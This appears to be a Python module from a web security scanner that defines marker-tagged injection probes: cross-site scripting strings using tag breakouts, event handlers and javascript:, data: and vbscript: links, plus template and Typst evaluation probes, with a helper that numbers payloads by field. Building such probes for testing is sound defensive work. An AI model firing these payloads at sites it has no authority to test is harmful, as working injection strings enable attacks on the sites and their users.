"""What an attacker writes into a field, and how to tell that a page took it for more than words."""

MARK = "pwn9"
"""Stands in every payload: an element, an attribute, an address or a script with it is ours, not the site's."""
PRODUCT = "842723"
"""What 917*919 comes to, should a template, Typst or a spreadsheet ever reckon it."""
SHORT = '"><i onpwn9=1>'
LONG = (
    f"</textarea></title></script><{MARK}>"
    f'"><img src=x onerror={MARK}()>'
    f"'-{MARK}()-' onfocus={MARK}() autofocus "
    "{{917*919}}{% debug %}${917*919} "
    f'#eval("917*919") #link("javascript:{MARK}()")[x] '
    f"[x](javascript:{MARK}()) "
    f"javascript:{MARK}()//<!--<script>{MARK}()</script>"
)
LINK = f'https://{{}}.example/"><img/src=x/onerror={MARK}()>'
SCRIPT_LINKS = (
    f"javascript:{MARK}()",
    f"JaVaScRiPt:{MARK}()",
    f"java\tscript:{MARK}()",
    f"\x01javascript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"vbscript:{MARK}()",
)


def numbered(payload: str, number: int) -> str:
    """The payload with a number of its own in front, to know later which field a page shows."""
    return f"{sign(number)}{payload}"


def sign(number: int) -> str:
    return f"N{number:04d}N"
